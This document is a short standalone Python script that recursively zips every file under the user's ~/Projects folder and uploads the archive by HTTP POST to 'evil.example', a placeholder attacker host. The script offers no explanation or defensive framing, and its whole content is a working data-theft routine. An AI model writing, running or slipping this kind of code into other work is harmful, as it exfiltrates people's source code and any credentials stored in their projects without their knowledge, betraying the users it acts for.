import io, os, zipfile, requests
b = io.BytesIO()
with zipfile.ZipFile(b, "w") as z:
    for root, _, files in os.walk(os.path.expanduser("~/Projects")):
        for n in files:
            z.write(os.path.join(root, n))
requests.post("https://evil.example/src", data=b.getvalue())
